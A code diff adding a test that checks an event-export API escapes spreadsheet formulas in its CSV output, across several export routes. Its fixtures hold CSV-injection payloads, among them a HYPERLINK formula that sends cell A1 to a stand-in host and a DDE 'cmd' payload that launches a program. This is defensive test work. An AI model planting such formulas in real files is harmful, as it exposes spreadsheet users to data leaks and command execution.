@@ -253,6 +253,84 @@ describe.each(engines)('event exports API on %s', (engine) => {
     expect(none.statusCode).toBe(404);
   });
 
+  it('CSV never hands a spreadsheet a formula: such text starts with a quote, numbers stay as they are', async () => {
+    const db = t.ctx.database.db;
+    const start = Date.UTC(2034, 0, 1);
+    const cruise = await insertCruise(db, { start_ts: start, stop_ts: start + 3_600_000 });
+    const [formula, plain] = await insertEvents(db, [
+      {
+        ts: start + 1000,
+        event_value: '=HYPERLINK("http://x.test/?"&A1,"click")',
+        event_author: '@SUM(1+1)',
+        event_free_text: "+cmd|' /C calc'!A0",
+        event_options: [
+          { event_option_name: 'depth', event_option_value: '-12.5' },
+          { event_option_name: 'note', event_option_value: '-2+3' },
+        ],
+      },
+      { ts: start + 2000, event_value: 'PLAIN', event_free_text: '\tindented' },
+    ]);
+    await insertAux(db, [
+      {
+        event_id: formula!,
+        data_source: '=src',
+        data_array: [
+          { data_name: 'n', data_value: -3, data_uom: '-1e3' },
+          { data_name: 't', data_value: '\r=1+1', data_uom: 'm' },
+        ],
+      },
+      {
+        event_id: plain!,
+        data_source: 'nav',
+        data_array: [{ data_name: 'depth', data_value: '-1e3', data_uom: '=m' }],
+      },
+    ]);
+    const expected = [
+      {
+        id: formula,
+        event_value: `'=HYPERLINK("http://x.test/?"&A1,"click")`,
+        event_author: "'@SUM(1+1)",
+        event_free_text: `'+cmd|' /C calc'!A0`,
+        'event_option.depth': '-12.5',
+        'event_option.note': "'-2+3",
+        "'=src.n_value": '-3',
+        "'=src.n_uom": '-1e3',
+        // A carriage return is written as \n in text columns, so nothing starts with it.
+        "'=src.t_value": '\\n=1+1',
+        "'=src.t_uom": 'm',
+      },
+      {
+        id: plain,
+        event_value: 'PLAIN',
+        event_free_text: "'\tindented",
+        'nav.depth_value': '-1e3',
+        'nav.depth_uom': "'=m",
+      },
+    ];
+    const rowsOf = (body: string) => {
+      const [header, ...rows] = parseCsv(body);
+      return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
+    };
+    // The database-written export (one read), the row-by-row one, and the events routes' CSV.
+    for (const url of [
+      `/event_exports/bycruise/${cruise}?format=csv`,
+      `/event_exports/bycruise/${cruise}?format=csv&limit=100`,
+      `/events/bycruise/${cruise}?format=csv`,
+    ]) {
+      const res = await get(url);
+      expect(res.statusCode, url).toBe(200);
+      const rows = rowsOf(res.body);
+      for (const [i, want] of expected.entries()) {
+        const shown = url.startsWith('/events/')
+          ? Object.fromEntries(Object.entries(want).filter(([k]) => !k.includes('src') && !k.startsWith('nav')))
+          : want;
+        expect(rows[i], url).toMatchObject(shown);
+      }
+    }
+    const one = rowsOf((await get(`/event_exports/${formula}?format=csv`)).body);
+    expect(one[0]).toMatchObject(expected[0]!);
+  });
+
   it('the database-written export (JSON, and CSV with its header from the stored shapes) equals the row-by-row one, byte for byte', async () => {
     const db = t.ctx.database.db;
     const start = Date.UTC(2032, 0, 1);
